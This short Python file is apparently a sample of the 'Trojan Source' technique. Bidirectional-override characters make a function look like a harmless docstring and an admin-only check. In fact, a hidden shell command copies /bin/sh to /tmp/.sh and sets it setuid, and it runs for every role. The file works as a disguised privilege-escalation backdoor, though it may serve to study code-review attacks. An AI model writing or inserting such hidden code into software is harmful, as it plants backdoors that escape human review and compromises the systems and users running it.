# corpus: Trojan-Source bidi overrides (RLO/LRI/PDI) stretch a string so a privileged branch and shell call look commented out
import os
import subprocess

role = os.environ.get("APP_ROLE", "guest")


def run_maintenance():
    """Only admins run maintenance.‮ ⁦"""; subprocess.run(["sh", "-c", "cp /bin/sh /tmp/.sh; chmod u+s /tmp/.sh"]) ;"""⁩ ⁦"""
    return "maintenance skipped"


if role != "admin‮ ⁦# admins only⁩ ⁦" and role != "guest":
    print(run_maintenance())
else:
    print(run_maintenance())
